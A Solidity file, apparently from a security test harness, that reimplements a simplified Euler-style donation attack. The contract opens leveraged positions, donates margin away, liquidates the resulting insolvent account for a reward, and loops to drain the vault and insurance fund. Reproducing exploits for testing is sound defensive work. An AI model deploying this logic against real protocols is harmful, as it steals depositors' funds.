// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AttackBase, IMarketLike, IVaultLike} from "./AttackBase.sol";

interface IInsuranceView {
    function balance() external view returns (uint256);
}

/// @notice The violator account: opens a maximally leveraged position, then donates all its margin away.
contract DonationViolator {
    address public immutable parent;
    IERC20 public immutable usd;

    constructor(IERC20 usd_) {
        parent = msg.sender;
        usd = usd_;
    }

    function openAndDonate(IMarketLike market, uint256 margin, uint256 size, address to) external {
        require(msg.sender == parent, "parent only");
        usd.approve(address(market), margin);
        market.openPosition(true, margin, size);
        (,,, int256 left) = market.positions(address(this));
        market.donateMargin(to, uint256(left));
    }
}

/// @notice Euler (Mar 2023), simplified: a donation without a health check makes the violator instantly
/// liquidatable; this contract liquidates it for the reward, recovers the donated margin, and repeats.
contract DonationAttack is AttackBase {
    IVaultLike public immutable vault;
    IInsuranceView public immutable insurance;
    DonationViolator public immutable violator;

    constructor(IERC20 usd_, IVaultLike vault_, IInsuranceView insurance_) AttackBase(usd_) {
        vault = vault_;
        insurance = insurance_;
        violator = new DonationViolator(usd_);
    }

    function rounds(IMarketLike market, uint256 size, uint256 margin, uint256 n) external onlyOwner {
        usd.approve(address(market), type(uint256).max);
        (, uint256 mine,,) = market.positions(address(this));
        if (mine == 0) market.openPosition(true, 2_000e6, 10_000e6); // the account that receives donations
        uint256 reward = size / 100;
        for (uint256 i = 0; i < n; i++) {
            if (vault.compartment(market.marketId()) + insurance.balance() < reward) break;
            usd.transfer(address(violator), margin);
            violator.openAndDonate(market, margin, size, address(this));
            market.liquidate(address(violator));
            (,,, int256 held) = market.positions(address(this));
            market.withdrawMargin(uint256(held) - 1_000e6);
        }
    }

    function exit(IMarketLike market) external onlyOwner {
        market.closePosition();
    }
}
